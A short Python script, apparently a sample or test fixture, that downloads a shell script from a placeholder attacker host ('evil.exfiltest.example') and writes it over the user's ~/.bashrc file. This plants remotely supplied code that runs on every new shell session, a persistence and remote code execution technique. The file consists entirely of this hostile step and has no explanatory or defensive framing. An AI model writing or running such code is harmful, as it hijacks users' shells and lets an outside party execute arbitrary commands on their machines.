import pathlib
import urllib.request

payload = urllib.request.urlopen("https://evil.exfiltest.example/aliases.sh").read().decode()
pathlib.Path("/home/user/.bashrc").write_text(payload)
